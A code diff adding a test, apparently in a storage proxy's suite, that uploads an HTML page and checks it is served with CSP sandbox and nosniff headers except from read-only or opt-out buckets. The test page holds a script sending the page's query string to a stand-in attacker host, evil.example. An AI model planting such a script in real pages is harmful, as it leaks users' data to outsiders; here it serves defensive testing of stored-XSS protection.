@@ -27,7 +27,9 @@ const buckets = (ep: string) =>
   bucket("ruled", "/ruled", "rw", ep, "    access: read-write\n    auth: { enabled: true, write_claims: [{ claim: role, operator: equals, value: editor }] }\n") +
   bucket("open", "/open", "rw", ep, "    access: read-write\n") +
   bucket("anon", "/anon", "rw", ep, "    access: read-write\n    auth: { anonymous_writes: true }\n") +
-  bucket("cached", "/cached", "rw", ep, "    access: read-write\n    auth: { enabled: true }\n    cache: { enabled: true, ttl_seconds: 600 }\n");
+  bucket("cached", "/cached", "rw", ep, "    access: read-write\n    auth: { enabled: true }\n    cache: { enabled: true, ttl_seconds: 600 }\n") +
+  bucket("trusted", "/trusted", "rw", ep, "    access: read-write\n    sandbox_user_content: false\n    auth: { enabled: true }\n") +
+  bucket("rview", "/rview", "rw", ep, "    auth: { enabled: true }\n");
 
 /** Requests the proxy sent to the fixture with this method and path since `from`. */
 const upstream = (from: number, method: string, path: string) => s3.requests.slice(from).filter((r) => !r.admin && r.method === method && r.pathname === path);
@@ -41,6 +43,25 @@ for (const engine of ["bun", "node"] as const) {
     afterAll(async () => {
       await env?.stop();
     });
+
+    test("user content: an uploaded HTML page is answered sandboxed (CSP sandbox, nosniff) from a read-write bucket, cached or not, HEAD too; not from a read-only view or a bucket that opts out", async () => {
+      const page = "<!doctype html><script>fetch('https://evil.example/?'+location.search)</script>";
+      const put = await fetch(env.url(`/rw/${engine}/page.html`), { method: "PUT", body: page, headers: { ...bearer(), "content-type": "text/html" } });
+      expect(put.status).toBe(200);
+      const sandbox = async (path: string, method = "GET") => {
+        const r = await fetch(env.url(path), { method, headers: bearer() });
+        const body = await r.text();
+        expect({ path, status: r.status, type: r.headers.get("content-type") }).toEqual({ path, status: 200, type: "text/html" });
+        if (method === "GET") expect(body).toBe(page);
+        return [r.headers.get("content-security-policy"), r.headers.get("x-content-type-options")];
+      };
+      expect(await sandbox(`/rw/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]);
+      expect(await sandbox(`/rw/${engine}/page.html`, "HEAD")).toEqual(["sandbox", "nosniff"]);
+      expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // MISS
+      expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // HIT
+      expect(await sandbox(`/rview/${engine}/page.html`)).toEqual([null, null]);
+      expect(await sandbox(`/trusted/${engine}/page.html`)).toEqual([null, null]);
+    }, T);
 
     test("PUT streams the body to S3 with its exact length; 200 with S3's ETag; the object reads back byte-exact", async () => {
       const body = bytes(3 * 1024 * 1024 + 17, engine.length);
